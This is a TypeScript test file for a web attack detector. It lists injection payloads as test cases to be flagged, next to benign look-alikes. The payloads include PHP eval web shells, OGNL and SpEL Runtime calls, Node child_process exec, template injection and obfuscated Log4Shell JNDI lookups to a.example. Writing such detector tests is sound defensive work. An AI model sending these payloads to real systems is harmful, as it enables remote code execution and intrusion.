import { testDetector } from "../../test/cases.ts";

testDetector("php", {
  attacks: [
    "<?php system('id'); ?>",
    "<?= $x ?>",
    "$_GET['c']",
    "';system('id');//",
    "${@print(7)}",
    'O:4:"User":1:{s:1:"a";i:1;}',
    "file_get_contents('/a')",
    "auto_prepend_file=php://input",
    ["<?php eval($_POST[1]); ?>", { header: "user-agent" }],
    ["<?php eval($_POST[1]); ?>", "cookie"],
  ],
  suspicious: ["phpinfo()"],
  clean: [
    "php tutorial",
    "system (noun)",
    "file_get_contents permission denied",
    '<?xml version="1.0"?>',
    "price: $5",
    "exec summary",
    'a:1:{s:4:"lang";s:2:"en";}',
  ],
});

testDetector("java", {
  attacks: [
    "java.lang.ProcessBuilder",
    "%{(#a=@java.lang.Runtime@getRuntime())}",
    "${T(java.lang.Runtime).getRuntime()}",
    "class.module.classLoader.resources",
    "rO0ABXNyABFqYXZh",
    "new javax.script.ScriptEngineManager",
    ["%{(#dm=@ognl.OgnlContext@DEFAULT)}", { header: "content-type" }],
    ["class.classLoader.x", "name"],
  ],
  clean: ["java.lang.NullPointerException", "java runtime environment", "java.util.List"],
});

testDetector("node", {
  attacks: [
    "require('child_process').exec('id')",
    "process.mainModule.require",
    "a.constructor.constructor('return 1')()",
    "(function(){while(1){}})()",
    "';return true;var a='",
    '{"a":"_$$ND_FUNC$$_function(){}"}',
  ],
  clean: [
    "process.env.NAME",
    "require a receipt",
    "function keys",
    "class constructor in javascript",
    "spawn point",
  ],
});

testDetector("script", {
  attacks: [
    "@{[system 'id']}",
    "__import__('os').system('id')",
    "os.system('id')",
    "IO.popen('id')",
    "Kernel.exec('id')",
  ],
  clean: ["@{name}", "kernel 6.1", "os.path.join", "open the door"],
});

testDetector("template", {
  attacks: [
    "{{7*7}}",
    "${9*9}",
    "#{4*4}",
    "<%= 4*4 %>",
    "{{''.__class__}}",
    "{% import os %}{{ os.popen('id') }}",
    "{{ self.x }}",
    "#set($a=1)",
  ],
  clean: [
    "{{ name }}",
    "{{user.name}}",
    "${name}",
    "#{name}",
    "{{a}_{b}}",
    "\\frac{1}{2}",
    "{ a: 1 }",
    "<% tag",
  ],
});

testDetector("jndi", {
  attacks: [
    "${jndi:ldap://a.example/x}",
    "${${lower:j}ndi:rmi://a.example}",
    "${${::-j}${::-n}di:dns://a.example}",
    "${j${k:-n}di:ldap://a.example}",
    ["${jndi:ldap://a.example/x}", { header: "user-agent" }],
    ["${jndi:ldap://a.example/x}", { header: "accept-language" }],
    ["/${jndi:ldap://a.example/x}", "path"],
  ],
  clean: ["jndi lookup", "${name}", "${a}${b}", "java naming"],
});
